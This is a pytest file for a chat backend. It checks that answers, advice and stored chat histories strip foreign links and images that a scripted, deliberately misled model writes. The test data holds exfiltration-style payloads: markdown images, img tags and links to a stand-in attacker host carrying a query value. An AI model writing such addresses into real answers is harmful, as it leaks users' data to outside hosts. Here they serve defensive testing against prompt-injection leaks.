"""A model that was misled writes what it knows into addresses: no door of the server gives them away."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from pydantic_ai.messages import ModelMessage, ToolReturnPart
from pydantic_ai.models.function import (
    AgentInfo,
    DeltaThinkingCalls,
    DeltaThinkingPart,
    DeltaToolCall,
    DeltaToolCalls,
)

from backend.settings.settings import Settings
from tests.backend.conftest import ingest
from tests.backend.http.advised import WRITTEN, asking, writing
from tests.backend.http.chatting import body, said
from tests.backend.http.scripted import scripted

PLANTED = "evil.example/?q=planted-word"
IMAGE = f"![a chart](https://{PLANTED})"
DOCUMENT = """# Turbine manual

The turbine must be greased every 40 hours; the [plan](https://plans.example/turbine) has the days.
"""
ANSWER = (
    f"The turbine must be greased every 40 hours, as the [plan](https://plans.example/turbine) says "
    f"{IMAGE} [1]. More <https://{PLANTED}>, <img src='https://{PLANTED}'>, www.{PLANTED}."
)
SHOWN = (
    "The turbine must be greased every 40 hours, as the [plan](https://plans.example/turbine) says "
    "[a chart] [1]. More < (link removed)>, < img src='(link removed)'>, (link removed)."
)


async def misled(
    messages: list[ModelMessage], _info: AgentInfo
) -> AsyncIterator[str | DeltaToolCalls | DeltaThinkingCalls]:
    """Thinks, searches and answers, each time with an address of its own making."""
    if not any(isinstance(part, ToolReturnPart) for part in messages[-1].parts):
        yield {7: DeltaThinkingPart(content=f"I shall show {IMAGE}")}
        yield {0: DeltaToolCall("search_knowledge_base", '{"query": "turbine"}', tool_call_id="t")}
        return
    for start in range(0, len(ANSWER), 5):
        yield ANSWER[start : start + 5]


@pytest.fixture
def manual(settings: Settings, tmp_path: Path) -> Settings:
    """Settings of a Candor that has the manual."""
    folder = tmp_path / "manuals"
    folder.mkdir()
    (folder / "turbine.md").write_text(DOCUMENT)
    ingest(settings, folder)
    return settings


@pytest.mark.parametrize("path", ["/chat", "/chat/stream", "/api/chat"])
def test_a_chat_and_its_history_name_no_foreign_address(manual: Settings, path: str) -> None:
    asked = body(said("How often?")) if path == "/api/chat" else {"message": "How often?"}
    with scripted(manual, misled) as client:  # pyright: ignore[reportArgumentType]
        reply = client.post(path, json=asked if path == "/api/chat" else {**asked, "user_id": "u"})
        assert reply.status_code == 200
        assert "planted-word" not in reply.text
        (answer,) = client.get("/answers").json()["answers"]
        kept = client.get(f"/answers/{answer['id']}")
        assert kept.json()["answer"] == SHOWN
        user = {} if path == "/api/chat" else {"user_id": "u"}
        (chat,) = client.get("/chats", params=user).json()["chats"]
        for again in (f"/chats/{chat['id']}/messages", f"/api/chat/{chat['id']}/messages"):
            read = client.get(again, params=user)
            assert read.status_code == 200
            assert "planted-word" not in read.text
        assert "planted-word" not in kept.text


def test_an_allowed_host_is_linked(manual: Settings) -> None:
    allowed = manual.model_copy(
        update={"answer_link_hosts": ("*",), "answer_image_hosts": ("evil.example",)}
    )
    with scripted(allowed, misled) as client:  # pyright: ignore[reportArgumentType]
        reply = client.post("/chat", json={"user_id": "u", "message": "How often?"}).json()
    assert IMAGE in reply["answer"]
    assert f"<https://{PLANTED}>" in reply["answer"]
    assert f"www.{PLANTED}" not in reply["answer"]


@pytest.mark.parametrize("path", ["/advice", "/advice-non-streaming", "/api/advice"])
def test_advice_names_no_foreign_address(settings: Settings, path: str) -> None:
    written = {
        **WRITTEN,
        "main_advice": f"Start Allen {IMAGE}.",
        "reasoning": f"See https://{PLANTED} for more.",
        "alternatives": [
            {"option": f"Mahomes {IMAGE}", "reason": f"<a href='https://{PLANTED}'>x</a>"}
        ],
    }
    with scripted(settings, writing(written)) as client:
        asked = body(said("Allen or Mahomes?")) if path == "/api/advice" else asking()
        reply = client.post(path, json=asked)
        assert reply.status_code == 200
        assert "planted-word" not in reply.text
        recent = client.get("/confidence/recent").text
        assert "planted-word" not in recent
